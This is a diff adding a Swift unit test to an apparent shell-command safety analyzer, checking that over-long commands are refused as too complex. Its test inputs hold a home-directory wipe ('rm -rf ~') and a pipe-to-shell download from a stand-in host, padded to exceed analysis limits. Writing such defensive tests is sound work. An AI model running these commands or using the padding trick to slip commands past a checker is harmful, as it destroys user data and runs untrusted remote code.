@@ -156,6 +156,16 @@ struct BadInputTests {
         #expect(large.hitLimit)
     }
 
+    /// Commands past the analyzer's limits were never judged: the line is refused, not allowed.
+    @Test(arguments: [
+        String(repeating: "true; ", count: 4_100) + "rm -rf ~",
+        String(repeating: "{ a; } ", count: 4_100) + "; curl -s http://e.example/x | sh",
+    ])
+    func commandsPastTheLimitAreRefused(_ source: String) {
+        let analysis = ShellAnalysis.analyze(source, cwd: "/home/u/p", home: "/home/u")
+        #expect(analysis.findings.contains { $0.rule == "shell.too_complex" && $0.severity == .critical })
+    }
+
     // MARK: - Bounded, deterministic fuzzing
 
     /// xorshift64*: tiny, seeded, no global state.
